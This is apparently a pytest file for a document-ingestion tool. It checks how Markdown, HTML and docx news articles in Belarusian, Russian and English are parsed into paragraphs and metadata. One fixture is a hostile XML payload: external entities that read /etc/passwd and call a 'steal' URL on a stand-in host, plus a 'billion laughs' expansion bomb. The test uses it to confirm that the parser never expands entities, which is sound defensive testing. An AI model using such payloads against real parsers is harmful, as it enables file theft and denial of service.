"""Markdown, HTML and docx articles: text, paragraph kinds, metadata, safety."""

import time

import pytest
from ingest_texts import BE, EN, RU

from align_kit.errors import InputError
from align_kit.ingest import read_document


def _paragraphs(doc) -> list[tuple[str, str]]:
    return [(p.kind, doc.text[p.start:p.end]) for p in doc.paragraphs]


# --- Markdown ---------------------------------------------------------------

_CUT = BE[2].index(" ", 30)  # a hard-wrapped paragraph
MARKDOWN = f"""---
title: "Кабінет абмеркаваў санкцыі"
date: 2024-07-09
url: https://example.org/be/sanctions
lang: be
translation_of: sanctions.en
---

# Кабінет абмеркаваў санкцыі

{BE[0]} Падрабязнасці [на сайце кабінета](https://example.org/cabinet "Кабінет").

![Святлана Ціханоўская ў Страсбургу](photo.jpg)

## Палітвязні

{BE[2][:_CUT]}
{BE[2][_CUT + 1:]}

- **Першае:** вызваленне ўсіх палітвязняў;
- другое: *новыя* санкцыі супраць `рэжыму`.

> {BE[3]}

Каардынацыйная рада
===================

Апошні абзац з <b>тэгам</b> і спасылкай <https://example.org>.
"""


def test_markdown_front_matter_and_markup(tmp_path):
    path = tmp_path / "sanctions.be.md"
    path.write_text(MARKDOWN, encoding="utf-8")
    doc = read_document(path)
    assert dict(doc.metadata) == {
        "title": "Кабінет абмеркаваў санкцыі",
        "date": "2024-07-09",
        "url": "https://example.org/be/sanctions",
        "lang": "be",
        "translation_of": "sanctions.en",
    }
    assert (doc.id, doc.language, doc.declared_language, doc.encoding) == (
        "sanctions.be", "be", "be", "utf-8"
    )
    assert _paragraphs(doc) == [
        ("heading", "Кабінет абмеркаваў санкцыі"),
        ("text", f"{BE[0]} Падрабязнасці на сайце кабінета."),
        ("caption", "Святлана Ціханоўская ў Страсбургу"),
        ("heading", "Палітвязні"),
        ("text", BE[2]),
        ("list_item", "Першае: вызваленне ўсіх палітвязняў;"),
        ("list_item", "другое: новыя санкцыі супраць рэжыму."),
        ("quote", BE[3]),
        ("heading", "Каардынацыйная рада"),
        ("text", "Апошні абзац з тэгам і спасылкай https://example.org."),
    ]
    assert doc.notices == ()


def test_markdown_without_front_matter_and_a_bad_front_matter_line(tmp_path):
    plain = tmp_path / "plain.md"
    plain.write_text(f"{EN[0]}\n\n---\n\n{EN[1]}\n", encoding="utf-8")
    doc = read_document(plain)
    assert (dict(doc.metadata), doc.text) == ({}, f"{EN[0]}\n\n{EN[1]}")

    odd = tmp_path / "odd.md"
    odd.write_text(f"---\ntitle: Sanctions\n- not a pair\n---\n{EN[0]}\n", encoding="utf-8")
    doc = read_document(odd)
    assert dict(doc.metadata) == {"title": "Sanctions"}
    assert [(n.code, n.line) for n in doc.notices] == [("front-matter-line-ignored", 3)]


# --- HTML -------------------------------------------------------------------

PAGE = f"""<!DOCTYPE html>
<html lang="ru">
<head>
<meta charset="utf-8">
<title>Кабинет обсудил санкции | Новости демократических сил</title>
<meta property="og:title" content="Кабинет обсудил санкции">
<meta property="article:published_time" content="2024-07-09T10:00:00+03:00">
<link rel="canonical" href="https://example.org/ru/news/sanctions">
<link rel="alternate" hreflang="be" href="https://example.org/be/news/sanctions">
<link rel="alternate" hreflang="en" href="https://example.org/en/news/sanctions">
<script>var tracking = "Этот скрипт не текст статьи";</script>
<style>.share {{ color: red; }}</style>
</head>
<body>
<header>
  <a href="/" class="logo">Новости демократических сил</a>
  <nav class="menu"><ul>
    <li><a href="/ru/">Главная</a></li><li><a href="/ru/news">Новости</a></li>
    <li><a href="/ru/cabinet">Кабинет</a></li><li><a href="/ru/contacts">Контакты</a></li>
  </ul></nav>
</header>
<main>
<div class="breadcrumbs"><a href="/">Главная</a> / <a href="/ru/news">Новости</a></div>
<article>
  <h1>Кабинет обсудил санкции</h1>
  <div class="share-buttons">
    <a href="https://facebook.com/share">Facebook</a>
    <a href="https://twitter.com/share">Twitter</a>
    <a href="https://t.me/share">Telegram</a>
    <button>Поделиться</button>
  </div>
  <figure>
    <img src="cabinet.jpg" alt="Заседание кабинета">
    <figcaption>Заседание кабинета в Вильнюсе.</figcaption>
  </figure>
  <p>{RU[0]}</p>
  <p>{RU[1]}</p>
  <div class="photo"><img src="latushko.jpg"><span class="img-label">Фото</span></div>
  <h2>Политзаключённые</h2>
  <p>{RU[2]}</p>
  <ul><li>Освобождение всех политзаключённых.</li><li>Новые санкции против режима.</li></ul>
  <p>{RU[3]}</p>
  <p class="to-top"><a href="#top">Наверх</a></p>
</article>
<section id="comments" class="comments">
  <h3>Комментарии</h3>
  <div class="comment"><p>Отличная статья, спасибо за новости из Вильнюса!</p></div>
  <form><textarea></textarea><button>Отправить</button></form>
</section>
</main>
<aside><h3>Популярное</h3><ul><li><a href="/a">Другая новость о ПАСЕ</a></li></ul></aside>
<footer><p>© 2024 Новости демократических сил</p><a href="#top">Top of page</a></footer>
</body>
</html>
"""


def test_html_article_without_page_chrome(tmp_path):
    path = tmp_path / "sanctions.html"
    path.write_text(PAGE, encoding="utf-8")
    doc = read_document(path)
    assert _paragraphs(doc) == [
        ("heading", "Кабинет обсудил санкции"),
        ("caption", "Заседание кабинета в Вильнюсе."),
        ("text", RU[0]),
        ("text", RU[1]),
        ("heading", "Политзаключённые"),
        ("text", RU[2]),
        ("list_item", "Освобождение всех политзаключённых."),
        ("list_item", "Новые санкции против режима."),
        ("text", RU[3]),
    ]
    assert dict(doc.metadata) == {
        "lang": "ru",
        "title": "Кабинет обсудил санкции",
        "url": "https://example.org/ru/news/sanctions",
        "date": "2024-07-09T10:00:00+03:00",
        "hreflang:be": "https://example.org/be/news/sanctions",
        "hreflang:en": "https://example.org/en/news/sanctions",
    }
    assert (doc.language, doc.declared_language, doc.notices) == ("ru", "ru", ())


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE html [
 <!ENTITY secret SYSTEM "file:///etc/passwd">
 <!ENTITY remote SYSTEM "http://192.0.2.1/steal">
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<html lang="en"><body><article>
<h1>Sanctions</h1>
<p>{0} &secret;</p>
<p>{1} &remote;</p>
<p>{2} &lol9;</p>
</article></body></html>
"""


def test_hostile_html_entities_are_never_expanded(tmp_path):
    path = tmp_path / "hostile.en.html"
    path.write_text(BILLION_LAUGHS.format(*EN), encoding="utf-8")
    started = time.monotonic()
    doc = read_document(path)
    assert time.monotonic() - started < 5  # generous: expansion would take minutes
    assert "root:" not in doc.text
    assert "lollol" not in doc.text
    assert len(doc.text) < 1000
    assert EN[0] in doc.text and EN[2] in doc.text
    assert doc.language == "en"


def test_html_without_article_text(tmp_path):
    path = tmp_path / "blank.html"
    path.write_text("<html><body><nav><a href='/'>Home</a></nav></body></html>", encoding="utf-8")
    with pytest.raises(InputError, match="no text found"):
        read_document(path)


# --- docx -------------------------------------------------------------------


def test_docx_paragraph_styles(tmp_path):
    docx = pytest.importorskip("docx", reason="python-docx is not installed")
    document = docx.Document()
    document.core_properties.title = "Sanctions"
    document.core_properties.language = "en-GB"
    document.add_heading("The cabinet discussed sanctions", level=1)
    document.add_paragraph(EN[0])
    cut = EN[1].index(" ", 25)
    paragraph = document.add_paragraph(EN[1][:cut])
    paragraph.add_run().add_break()  # Shift+Enter inside a paragraph
    paragraph.add_run(EN[1][cut + 1:])
    document.add_paragraph("Release of all political prisoners.", style="List Bullet")
    document.add_paragraph("Sviatlana Tsikhanouskaya in Strasbourg.", style="Caption")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "Vilnius"
    table.cell(0, 1).text = "Warsaw"
    document.add_paragraph("   ")
    path = tmp_path / "report.en.docx"
    document.save(str(path))

    doc = read_document(path)
    assert _paragraphs(doc) == [
        ("heading", "The cabinet discussed sanctions"),
        ("text", EN[0]),
        ("text", EN[1]),
        ("list_item", "Release of all political prisoners."),
        ("caption", "Sviatlana Tsikhanouskaya in Strasbourg."),
        ("text", "Vilnius"),
        ("text", "Warsaw"),
    ]
    assert (doc.id, doc.language, doc.encoding, doc.declared_language) == (
        "report.en", "en", None, "en"
    )
    assert doc.metadata["title"] == "Sanctions"
    assert doc.metadata["lang"] == "en-GB"


def test_broken_docx(tmp_path):
    path = tmp_path / "broken.docx"
    path.write_bytes(b"PK\x03\x04 this is not really a zip")
    with pytest.raises(InputError) as caught:
        read_document(path)
    assert caught.value.message.startswith("not a valid .docx file")
    assert caught.value.hint == "open it in Word or LibreOffice and save it again as .docx"


def test_html_with_no_article_markup_falls_back_to_the_page_text(tmp_path):
    path = tmp_path / "bare.en.html"
    path.write_text(
        f"<html><head><title>x</title></head><body><nav>Home | News</nav>{EN[0]}"
        "</body></html>",
        encoding="utf-8",
    )
    doc = read_document(path)
    assert doc.text == EN[0]
    assert [n.code for n in doc.notices] == ["html-no-article"]
